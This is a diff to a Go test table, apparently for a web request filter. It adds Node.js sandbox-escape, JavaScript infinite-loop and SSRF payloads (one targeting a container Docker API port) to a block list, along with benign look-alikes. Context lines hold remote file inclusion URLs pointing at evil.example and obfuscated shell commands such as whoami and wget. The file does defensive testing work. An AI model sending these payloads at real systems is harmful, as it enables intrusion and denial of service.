@@ -48,6 +48,12 @@ var familyBlock = []struct {
 	{"rfi script with suffix cut", get("/p?page=http%3A%2F%2Fevil.example%2Fc99.php%3F")},
 	{"rfi script with nul", get("/p?page=http%3A%2F%2Fevil.example%2Fx.txt%00")},
 
+	// Node.js and JavaScript loops; SSRF host names.
+	{"node string subscript call", get("/p?x=process%5B%22binding%22%5D%28%22fs%22%29")},
+	{"js infinite loop", get("/p?x=while%28%210%29%3B")},
+	{"js infinite loop constant", get("/p?x=while%28Infinity%29")},
+	{"ssrf container host", get("/p?url=host.containers.internal%3A2375%2Fcontainers")},
+
 	// Shell: command words hidden by quoting, expansions or syntax.
 	{"shell quoted command", get("/p?h=x%3Bw%27ho%27ami")},
 	{"shell empty expansion in word", get("/p?h=wg%24%40et+x")},
@@ -96,6 +102,8 @@ var familyGrey = []struct {
 	{"markdown image and checkbox", post("application/json", `{"t":"- [ ] todo\n![](https://example.com/a.png) (see [1]+[2])"}`)},
 	{"template literal in prose", post("application/json", `{"t":"Use a template: `+"`Hello ${name}`"+` in JS"}`)},
 	{"word list with slash", get("/p?q=and%2Fonwards%3Dx")},
+	{"js loop that never runs", get("/p?x=while%28%21true%29%3B")},
+	{"while in prose", get("/p?q=while+%28waiting%29")},
 	{"contractions", post("application/json", `{"t":"I'd say it's fine, let's go; we'll see what's next"}`)},
 	{"markdown code span", post("application/json", `{"t":"Use `+"`cat`"+` to print a file and `+"`ls`"+` to list a folder."}`)},
 	{"pipe separated list", get("/p?ref=hp%7Cgen%7Ctop%7Cwomen")},
